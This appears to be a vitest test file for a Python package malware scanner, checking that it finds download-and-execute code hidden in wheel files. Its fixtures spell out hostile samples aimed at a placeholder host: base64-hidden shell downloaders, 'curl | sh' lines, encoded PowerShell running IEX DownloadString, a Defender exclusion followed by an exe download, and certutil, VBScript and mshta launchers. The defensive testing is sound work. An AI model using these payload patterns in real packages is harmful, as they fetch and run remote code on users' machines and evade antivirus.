import { afterAll, describe, expect, it } from "vitest";
import type { Analysis } from "../../../main/model/analysis/analysis.ts";
import type { Finding } from "../../../main/model/analysis/finding.ts";
import { createScanPool } from "../../../main/scan/scan-pool.ts";
import { buildZip } from "../../support/zip-builder.ts";

const pool = createScanPool({ jobs: 1 });
afterAll(() => pool.close());

async function scan(files: Readonly<Record<string, string>>): Promise<Analysis> {
	const bytes = buildZip(Object.entries(files).map(([name, content]) => ({ name, content })));
	const scanned = await pool.scan({ kind: "bytes", filename: "pond-1.0-py3-none-any.whl", bytes, origin: "upload" });
	await scanned.close();
	return scanned.analysis;
}

const base64 = (content: string | Buffer): string => Buffer.from(content).toString("base64");
const grave = (analysis: Analysis): Finding[] =>
	analysis.findings.filter(({ severity }) => severity === "high" || severity === "critical");
const runs = 'import subprocess\nsubprocess.Popen(["sh", "pond/setup.sh"])\n';

describe("decoded shell", () => {
	const script =
		"#!/bin/sh\necho hello\ncurl -s https://example.invalid/stage -o /tmp/stage\nchmod +x /tmp/stage\n/tmp/stage &\n";

	it("that is written to a file is judged line by line, with its place in the layer", async () => {
		const text = `import base64\ncode = base64.b64decode("${base64(script)}")\nopen("/tmp/go.sh", "wb").write(code)\n`;
		const analysis = await scan({ "pond/__init__.py": text });
		expect(analysis.layers.map(({ kind, use }) => [kind, use])).toEqual([["shell", "decoded"]]);
		const found = grave(analysis).filter((finding) => finding.rule === "shell-download");
		expect(found).toHaveLength(1);
		expect(found[0]).toMatchObject({
			severity: "critical",
			reach: "import",
			layerSpan: { startLine: 3 },
			span: { startLine: 2 },
		});
	});

	it("that a call starts is judged there, once", async () => {
		const text = `import base64, os\nos.system(base64.b64decode("${base64("curl https://example.invalid/stage | sh")}").decode())\n`;
		const analysis = await scan({ "pond/__init__.py": text });
		const found = analysis.findings.filter((finding) => finding.rule === "shell-download");
		expect(found.map(({ layerIds, severity }) => [layerIds.length, severity])).toEqual([[0, "critical"]]);
	});

	it("that nothing touches is told, and weighs little", async () => {
		const text = `SAMPLE = "${base64(script)}"\n`;
		const analysis = await scan({ "pond/__init__.py": text });
		expect(analysis.findings.some((finding) => finding.rule === "shell-download")).toBe(true);
		expect(
			analysis.findings.filter((finding) => finding.rule === "shell-download" && finding.severity !== "low"),
		).toEqual([]);
	});

	it("is quiet where it does nothing of the kind", async () => {
		const text = `import base64\ncode = base64.b64decode("${base64("#!/bin/sh\nset -e\ncd build\nmake\nmake install\n")}")\nopen("build.sh", "wb").write(code)\n`;
		expect(grave(await scan({ "pond/__init__.py": text }))).toEqual([]);
	});
});

describe("PowerShell", () => {
	const script = `$u = 'https://example.invalid/' + 'stage.ps1'\nIEX (New-Object Net.WebClient).DownloadString($u)\n`;
	const encoded = base64(Buffer.from(script, "utf16le"));

	it.each([
		["an argument list", `import subprocess\nsubprocess.Popen(["powershell", "-w", "hidden", "-enc", "${encoded}"])\n`],
		["shell text", `import os\nos.system("powershell -nop -e ${encoded}")\n`],
	])("behind -EncodedCommand in %s is a layer, and what it does is told", async (_title, text) => {
		const analysis = await scan({ "pond/__init__.py": text });
		expect(
			analysis.layers.map(({ kind, use, chain }) => [kind, use, chain.map((step) => step.transform).join(">")]),
		).toEqual([["powershell", "executed", "base64>utf-16le"]]);
		const found = grave(analysis).find((finding) => finding.rule === "shell-download");
		expect(found?.message).toContain("runs encoded PowerShell that downloads hxxps[://]example[.]invalid/stage.ps1");
	});

	it("that is only decoded is judged, and what stands encoded in it is read in turn", async () => {
		const inner = base64(
			Buffer.from(
				"Add-MpPreference -ExclusionPath C:\\\niwr https://example.invalid/a.exe -OutFile a.exe\nStart-Process a.exe\n",
				"utf16le",
			),
		);
		const outer = `$x = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${inner}'))\nIEX $x\n`;
		const text = `import base64\ncode = base64.b64decode("${base64(outer)}").decode()\nopen("go.ps1", "w").write(code)\n`;
		const analysis = await scan({ "pond/__init__.py": text });
		expect(analysis.layers.map(({ kind, depth }) => [kind, depth])).toEqual([
			["powershell", 1],
			["powershell", 2],
		]);
		expect(grave(analysis).some((finding) => finding.rule === "shell-download" && finding.layerIds.length > 0)).toBe(
			true,
		);
	});
});

describe("Python inside of shell text", () => {
	it("is read as a layer of the string or script it stands in", async () => {
		const code = `import os; os.system('curl https://example.invalid/s | sh')`;
		const analysis = await scan({
			"pond/__init__.py": runs,
			"pond/setup.sh": `#!/bin/sh\necho go\npython3 -c "${code}"\n`,
		});
		const found = grave(analysis).find((finding) => finding.layerIds.length === 1 && finding.path === "pond/setup.sh");
		expect(found).toMatchObject({ rule: "shell-download", reach: "import", span: { startLine: 3 } });
	});
});

describe("script members", () => {
	const download = {
		sh: "#!/bin/sh\nURL=https://example.invalid/x\ncurl -s $URL | sh\n",
		bat: "@echo off\r\nset u=https://example.invalid/x.exe\r\ncertutil -urlcache -f %u% %TEMP%\\x.exe\r\nstart /b %TEMP%\\x.exe\r\n",
		ps1: '$p = "$env:TEMP\\x.exe"\nInvoke-WebRequest https://example.invalid/x.exe -OutFile $p\nStart-Process $p\n',
		vbs: 'Set s = CreateObject("WScript.Shell")\nc = "powershell -c ""iwr https://example.invalid/x | iex"""\ns.Run c, 0\n',
		js: 'var s = new ActiveXObject("WScript.Shell");\ns.Run("mshta https://example.invalid/x.hta");\n',
	};

	it.each([
		["sh", 'import subprocess\nsubprocess.Popen(["bash", "pond/go.sh"])\n', 3],
		["bat", 'import os\nos.system("start /min pond\\\\go.bat")\n', 3],
		[
			"ps1",
			'import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.run(["powershell", "-File", os.path.join(here, "go.ps1")])\n',
			2,
		],
		["vbs", 'import os\nos.startfile("pond/go.vbs")\n', 3],
		["js", 'import os\nos.system("wscript //e:jscript pond/go.js")\n', 2],
	] as const)("a .%s that Python starts is judged by what starts it", async (kind, starter, line) => {
		const analysis = await scan({ "pond/__init__.py": starter, [`pond/go.${kind}`]: download[kind] });
		const found = analysis.findings.find((one) => one.rule === "shell-download" && one.path === `pond/go.${kind}`);
		expect(found).toMatchObject({ severity: "critical", reach: "import", span: { startLine: line } });
		expect(analysis.coverage.skipped.filter(({ path }) => path === `pond/go.${kind}`)).toEqual([]);
	});

	it("is reached no further than its starter", async () => {
		const analysis = await scan({
			"pond/__init__.py": `def go():\n    import subprocess\n    subprocess.Popen(["bash", "pond/go.sh"])\n`,
			"pond/go.sh": download.sh,
		});
		const found = analysis.findings.find((finding) => finding.path === "pond/go.sh");
		expect(found?.reach).not.toBe("import");
	});

	it("that another script starts is followed", async () => {
		const analysis = await scan({
			"pond/__init__.py": runs,
			"pond/setup.sh": "#!/bin/sh\nsh ./second.sh\n",
			"pond/second.sh": download.sh,
		});
		expect(grave(analysis).some((finding) => finding.path === "pond/second.sh")).toBe(true);
	});

	it("that nobody starts is not examined, and said to be", async () => {
		const analysis = await scan({ "pond/__init__.py": "x = 1\n", "pond/go.sh": download.sh });
		expect(analysis.findings.filter(({ path }) => path === "pond/go.sh")).toEqual([]);
		expect(analysis.coverage.skipped.map(({ path }) => path)).toContain("pond/go.sh");
	});
});
